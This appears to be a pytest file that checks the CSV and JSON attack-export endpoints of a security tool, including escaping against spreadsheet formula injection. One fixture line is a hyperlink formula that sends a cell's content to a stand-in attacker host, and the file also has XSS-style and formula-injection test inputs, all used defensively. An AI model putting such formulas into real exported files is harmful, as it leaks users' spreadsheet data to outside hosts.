from __future__ import annotations

import csv
import io
import socket

import httpx
import pytest

from tcpmirror.cloud.api.files import cell
from tests.cloud.running import READ, RunningCloud, finding, report

LONG = "x" * 8_000  # rows that no buffer on the way holds all of
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture(scope="module")
def filled(lasting_cloud: RunningCloud) -> RunningCloud:
    sent = [report(number, host=f"h{number}.example") for number in range(1100)]
    sent.append(report(2000, host=FORMULA, findings=[finding(type="xss", payload='-1+1,"\r\n;é\x00')]))
    with lasting_cloud.node() as node:
        node.post("/api/v1/batches", json={"batch_id": "a", "reports": sent}).raise_for_status()
    return lasting_cloud


def test_both_files_hold_all_attacks_of_the_search_in_its_order(filled: RunningCloud) -> None:
    asked = {"q": "sqli", "sort": "target"}
    with filled.client(READ) as client:
        table = client.get("/api/v1/attacks.csv", params=asked)
        listed = client.get("/api/v1/attacks.json", params=asked)
    rows = list(csv.DictReader(io.StringIO(table.text, newline="")))
    assert [row["host"] for row in rows] == [attack["host"] for attack in listed.json()]
    assert [row["host"] for row in rows] == sorted(f"h{number}.example" for number in range(1100))
    assert 'filename="attacks-' in table.headers["content-disposition"]
    assert (table.headers["content-type"], listed.headers["content-type"]) == ("text/csv; charset=utf-8", "application/json")


def test_no_cell_is_a_formula_and_json_is_as_it_was_sent(filled: RunningCloud) -> None:
    with filled.client(READ) as client:
        table = client.get("/api/v1/attacks.csv", params={"q": "xss"}).text
        (attack,) = client.get("/api/v1/attacks.json", params={"q": "xss"}).json()
    (row,) = csv.DictReader(io.StringIO(table, newline=""))
    assert row["host"] == "'" + FORMULA.lower() and row["last_payload"].startswith("'-1+1,")
    assert attack["host"] == FORMULA.lower() and attack["last_payload"] == '-1+1,"\r\n;é\u2400'


def test_nothing_found_is_an_empty_file(filled: RunningCloud) -> None:
    with filled.client(READ) as client:
        assert client.get("/api/v1/attacks.json?q=ssrf").json() == []
        assert len(client.get("/api/v1/attacks.csv?q=ssrf").text.splitlines()) == 1
        assert client.get("/api/v1/attacks.csv?q=(").status_code == 400


CELLS = {"=1": "'=1", " =1": "' =1", "+1": "'+1", "@x": "'@x", "\t=1": "'\t=1", "\uff1d1": "'\uff1d1", "a=1": "a=1", "": ""}


@pytest.mark.parametrize(("value", "text"), CELLS.items())
def test_cell(value: str, text: str) -> None:
    assert cell(value) == text


def test_numbers_stay_numbers() -> None:
    assert (cell(-5), cell(None), cell([79, 80]), cell(["=a"])) == ("-5", "", "79 80", "'=a")


@pytest.mark.parametrize("ending", ["csv", "json"])
def test_file_whose_store_fails_on_the_way_does_not_end_in_order(cloud: RunningCloud, ending: str) -> None:
    sent = [report(number, host=f"h{number}.{LONG}", request_b64="", response_b64="") for number in range(1250)]
    with cloud.node() as node:
        node.post("/api/v1/batches", json={"batch_id": "a", "reports": sent}).raise_for_status()
    narrow = httpx.HTTPTransport(socket_options=[(socket.SOL_SOCKET, socket.SO_RCVBUF, 131_072)])
    headers = {"Authorization": f"Bearer {READ}"}
    got = b""
    with httpx.Client(base_url=cloud.url, headers=headers, transport=narrow, timeout=20) as client:
        with client.stream("GET", f"/api/v1/attacks.{ending}") as answer:
            assert answer.status_code == 200
            with cloud.service.database.writing() as connection:
                connection.exec_driver_sql("ALTER TABLE attacks RENAME TO lost")
            with pytest.raises(httpx.RemoteProtocolError, match="incomplete"):
                for chunk in answer.iter_bytes():
                    got += chunk
        assert client.get(f"/api/v1/attacks.{ending}").status_code == 503
    assert got and not got.endswith(b"]")
